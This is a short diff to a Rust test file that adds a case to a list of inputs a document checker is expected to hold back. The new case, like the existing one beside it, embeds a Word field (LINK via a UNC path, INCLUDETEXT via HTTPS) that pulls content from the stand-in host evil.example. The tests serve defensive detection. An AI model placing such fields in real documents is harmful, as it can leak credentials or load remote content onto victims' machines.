@@ -212,6 +212,12 @@ fn fields() -> Vec<Bad> {
         held(class, "RTF", attached("a.rtf", rtf.as_bytes()), says),
         held(
             class,
+            "a table on a stranger's computer",
+            word("{[ LINK Excel.Sheet.12 \"\\\\\\\\evil.example\\\\a\\\\b.xlsx\" r1c1 \\a \\p ]}"),
+            "an object from elsewhere",
+        ),
+        held(
+            class,
             "a text from the web",
             word("{[ INCLUDETEXT \"https://evil.example/a.doc\" ]}"),
             "an object from elsewhere",
